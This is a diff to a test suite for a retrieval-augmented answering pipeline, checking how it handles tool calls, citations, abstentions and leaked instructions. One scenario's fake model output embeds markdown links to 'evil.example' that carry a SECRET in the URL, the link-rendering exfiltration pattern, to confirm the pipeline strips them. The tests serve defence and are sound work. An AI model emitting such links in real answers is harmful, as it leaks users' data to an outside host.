@@ -10,6 +10,7 @@ from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
+from ragkit.answer.prompt import INSTRUCTIONS
 from tests.wire.dialects import OpenAIWire
 from tests.wire.server import Fault, ToolCallTurn, Turn, events
 
@@ -58,6 +59,8 @@ class Scenario:
     never: str = "SECRET"
     """What no output may hold."""
     stream_type: str = "text/event-stream"
+    search: str = "first"
+    """`answer.search` of the pipeline."""
 
 
 def call(**arguments: Any) -> Turn:
@@ -107,13 +110,25 @@ SEARCH = call(query="when is the hedge cut")
 GOOD = say("The hedge is cut in August [1].")
 NO_USAGE = replace(GOOD, prompt_tokens=0, completion_tokens=0)
 ANSWERED = "The hedge is cut in August [1]."
+CALL_TEXT = '{"name": "search_knowledge_base", "arguments": {"query": "hedge"}}'
+ECHO = INSTRUCTIONS.splitlines()[1]
 
 SCENARIOS = (
-    answers("a good answer", (SEARCH, GOOD), ANSWERED),
+    answers("a good answer", (GOOD,), ANSWERED),
     # tools
-    Scenario("no tool call", (GOOD,), "not_searched", "the model did not search the documents"),
+    answers("a good answer after a second search", (SEARCH, GOOD), ANSWERED),
+    Scenario(
+        "no search of its own, with `search: model`",
+        (GOOD,),
+        "not_searched",
+        "the model did not search the documents",
+        search="model",
+    ),
+    answers("a call as JSON in its text", (say(CALL_TEXT), GOOD), ANSWERED),
+    answers("a call in a block of code", (say(f"```json\n{CALL_TEXT}\n```"), GOOD), ANSWERED),
+    answers("a call in `<tool_call>`", (say(f"<tool_call>\n{CALL_TEXT}\n</tool_call>"), GOOD), ANSWERED),
     answers("an unknown tool", (Turn(calls=(ToolCallTurn("shell", {"cmd": "ls"}),)), SEARCH, GOOD)),
-    claims(
+    answers(
         "arguments that are no JSON",
         (Turn(calls=(ToolCallTurn("search_knowledge_base", {}),), arguments='{"query": "hed'), SEARCH, GOOD),
     ),
@@ -146,13 +161,22 @@ SCENARIOS = (
     Scenario("an unknown reason to stop", (SEARCH, say(ANSWERED, "weird")), "cut", "for the reason 'weird'"),
     answers("a call with the reason `stop`", (replace(SEARCH, stop="stop"), GOOD)),
     # citations and links
-    Scenario(
-        "an unknown citation", (SEARCH, say("It is cut in August [42].")), "uncited", "taken out: [42]", never="t [42]"
-    ),
-    Scenario("citation [0]", (SEARCH, say("It is cut in August [0].")), "uncited", "taken out: [0]", never="t [0]"),
+    Scenario("an unknown citation", (say("It is cut in August [42]."),), "answered", "taken out: [42]", never="t [42]"),
+    Scenario("citation [0]", (say("It is cut in August [0]."),), "answered", "taken out: [0]", never="t [0]"),
+    Scenario("an unknown citation of nothing", (say("By tractor [42]."),), "uncited", "taken out: [42]"),
+    answers("the number of another passage", (say("The hedge is cut in August [2]."),), "[2] to [1]"),
+    Scenario("a number alone", (say("[2]"),), "empty", "the model sent only the numbers of passages"),
+    Scenario("its instructions", (say(ECHO),), "empty", "the model sent its instructions"),
+    answers("a passage repeated", (say("The hedge is cut in August. The roses are cut back in March."),), "[1]"),
     Scenario("a known and an unknown one", (SEARCH, say("In August [1, 9].")), "answered", "In August [1]."),
     answers("citations in 【1】", (SEARCH, say("It is cut in August【1】.")), "August[1]"),
-    Scenario("no citation", (SEARCH, say("It is cut in August.")), "uncited", "the answer cites no passage"),
+    answers("no citation of what a passage says", (say("It is cut in August."),), "[1]"),
+    Scenario(
+        "no citation of what no passage says",
+        (say("Dragons live in Wales."),),
+        "uncited",
+        "the answer cites no passage",
+    ),
     claims(
         "links to an evil host",
         (SEARCH, say("Look ![x](http://evil.example/?q=SECRET) [1] [y](//evil.example/SECRET)")),
@@ -188,7 +212,14 @@ SCENARIOS = (
         "uncited",
         "and goes on without a citation: do not rely on it",
     ),
-    Scenario("an abstention without a search", (say("[not in documents]"),), "not_searched", "did not search"),
+    answers("the mark of an abstention below an answer", (say(f"{ANSWERED}\n[not in documents]"),), ANSWERED),
+    Scenario(
+        "an abstention without a search, with `search: model`",
+        (say("[not in documents]"),),
+        "not_searched",
+        "did not search",
+        search="model",
+    ),
     # usage
     answers("no usage", (SEARCH, NO_USAGE), "price unknown"),
     answers(
